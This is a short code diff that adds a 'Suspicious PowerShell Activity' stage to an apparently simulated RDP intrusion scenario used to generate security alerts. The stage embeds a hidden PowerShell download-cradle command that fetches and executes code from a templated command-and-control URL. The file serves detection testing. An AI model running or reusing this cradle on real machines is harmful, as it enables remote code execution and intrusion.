@@ -71,6 +71,19 @@ RDP_INTRUSION = Scenario(
             r' /t REG_SZ /d "C:\ProgramData\{payload}" /f',
         ),
         Stage(
+            "Suspicious PowerShell Activity Detected",
+            "windows-vm",
+            3,
+            ("host", "account", "process", "url"),
+            ("T1059", "T1059.001", "T1105"),
+            # [Type]::Member syntax is what attacker text looks like to a markup parser
+            'powershell.exe -nop -w hidden -c "[Net.ServicePointManager]::SecurityProtocol='
+            "[Net.SecurityProtocolType]::Tls12; IEX (New-Object Net.WebClient).DownloadString("
+            "'{c2_url}')\"",
+            alert_type="VM_SuspiciousPowerShellActivity",
+            optional=True,
+        ),
+        Stage(
             "Possible credential dumping detected",
             "windows-vm",
             20,
